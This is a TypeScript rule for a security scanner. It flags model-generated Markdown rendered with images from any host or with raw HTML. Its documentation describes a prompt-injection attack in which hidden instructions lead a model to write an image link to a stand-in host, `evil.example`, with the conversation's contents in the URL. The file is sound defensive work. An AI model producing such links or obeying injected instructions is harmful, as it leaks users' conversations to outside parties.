/**
 * Text chosen by a model is shown as Markdown by a component that loads images of any host or lets raw HTML through. The text of the answer is not
 * harmful by itself: what is reported is that nothing restricts the addresses it may name.
 */
import { defineFlowRule, originOf } from '../engine/define';

export default defineFlowRule({
  id: 'llm-markdown-exfil',
  title: 'Markdown of a model may load images of any host',
  category: 'output',
  severity: 'warning',
  presets: [],
  refs: { cwe: [200, 1426], owaspLlm2025: ['LLM02', 'LLM05'], owaspLlm2026: ['LLM02', 'LLM10'], asi: ['ASI01'] },
  docs: {
    why:
      'An instruction hidden in a page, a mail or a file makes the model write an image whose address carries what it has read: `![](https://evil.example/?q=…)`. The reader’s ' +
      'browser loads it at once, and the conversation has left the house without a click. Raw HTML in Markdown does the same, and more.',
    instead:
      'Show no images (`disallowedElements={["img"]}`), or only those of hosts you trust: a `urlTransform` with a list of hosts, rehype-harden, `allowedImagePrefixes`. Leave out rehype-raw. ' +
      'A Content-Security-Policy with `img-src` is the second lock.',
    limits:
      'Renderers that give HTML as text (marked, markdown-it) belong to llm-output-to-html. A `urlTransform`, a component for `img` and any option that speaks of elements is taken for a restriction, ' +
      'whatever it does. A Content-Security-Policy is not seen.',
  },
  flow: { from: ['llm-output', 'tool-arguments'], to: 'markdown', stoppedBy: ['allowlist', 'scalar', 'html-escaped', 'url-component'] },
  fixes: ['no-markdown-images'],
  message: (context) =>
    `\`${context.sink.callee}\` shows Markdown with images of any host, and its text comes from ${originOf(context)}; leave images out or restrict their addresses, or an injected instruction can send the conversation away`,
});
